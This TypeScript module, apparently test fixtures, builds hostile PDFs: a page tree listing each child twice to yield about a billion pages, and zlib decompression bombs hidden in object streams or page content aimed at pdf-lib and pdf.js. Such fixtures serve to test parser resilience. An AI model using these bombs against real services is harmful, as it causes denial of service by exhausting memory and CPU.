import zlib from 'node:zlib';

/**
 * PDFs built to hurt a reader, byte by byte: each is a well-formed file (header, objects,
 * a cross-reference table that points at them, trailer), so a parser takes it at its word.
 */

/** A PDF of these objects (numbered from 1, as `n 0 obj … endobj`), catalog first. */
export function assemblePdf(objects: ReadonlyArray<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xE2\xE3\xCF\xD3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  objects.forEach((body, index) => {
    offsets.push(length);
    const object = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`, 'latin1'),
      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(object);
    length += object.length;
  });
  const xref = [
    `xref\n0 ${objects.length + 1}\n`,
    '0000000000 65535 f \n',
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`),
  ].join('');
  parts.push(
    Buffer.from(
      `${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

/**
 * A page tree that lists the same child twice at every level: `depth` levels make 2^depth
 * pages out of a few KB. A reader that walks the tree without noticing it has been somewhere
 * before walks a billion pages.
 */
export function pageTreeBomb(depth = 30): Buffer {
  // 1 catalog, 2 .. depth+1 the Pages nodes (2 the root), depth+2 the one leaf page, depth+3 its content.
  const objects: string[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
  for (let level = 0; level < depth; level += 1) {
    const self = 2 + level;
    const child = self + 1;
    const parent = level === 0 ? '' : ` /Parent ${self - 1} 0 R`;
    objects.push(`<< /Type /Pages${parent} /Kids [${child} 0 R ${child} 0 R] /Count ${2 ** (depth - level)} >>`);
  }
  const leaf = 2 + depth;
  objects.push(`<< /Type /Page /Parent ${leaf - 1} 0 R /MediaBox [0 0 595 842] /Contents ${leaf + 1} 0 R >>`);
  objects.push('<< /Length 0 >>\nstream\n\nendstream');
  return assemblePdf(objects);
}

/**
 * zlib data that inflates to `chunks` x 64 MiB of zeros: one sync-flushed run of 64 MiB (which
 * refers only to the zeros just before it) repeated, then an empty final block. About 1 KiB in
 * per MiB out, the most deflate can do; the trailing checksum is not that of the data, which a
 * reader only finds out after inflating all of it.
 */
export async function zerosBomb(chunks: number): Promise<Buffer> {
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const taken: Buffer[] = [];
  deflate.on('data', (data: Buffer) => taken.push(data));
  const flushed = async (input: Buffer): Promise<Buffer> => {
    deflate.write(input);
    await new Promise<void>((resolve) => deflate.flush(zlib.constants.Z_SYNC_FLUSH, () => resolve()));
    return Buffer.concat(taken.splice(0));
  };
  const primer = await flushed(Buffer.alloc(32 * 1024));
  const run = await flushed(Buffer.alloc(64 * 1024 * 1024));
  deflate.destroy();
  const zlibHeader = Buffer.from([0x78, 0xda]);
  const finalBlock = Buffer.from([0x03, 0x00]);
  return Buffer.concat([zlibHeader, primer, ...Array.from({ length: chunks }, () => run), finalBlock, Buffer.alloc(4)]);
}

/**
 * A one-page PDF with an object stream that inflates to about `chunks` x 64 MiB: a reader
 * parsing the file unpacks it before it can read the objects inside.
 */
export async function inflateBomb(chunks = 29): Promise<Buffer> {
  const data = await zerosBomb(chunks);
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N 1 /First 6 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'),
      data,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  ]);
}

/**
 * A one-page PDF whose page content inflates to about `chunks` x 64 MiB: pdf-lib's parse leaves
 * it packed, but pdf.js (page images, text tags) unpacks it whole to draw the page.
 */
export async function contentBomb(chunks = 29): Promise<Buffer> {
  const data = await zerosBomb(chunks);
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    Buffer.concat([
      Buffer.from(`<< /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'),
      data,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  ]);
}
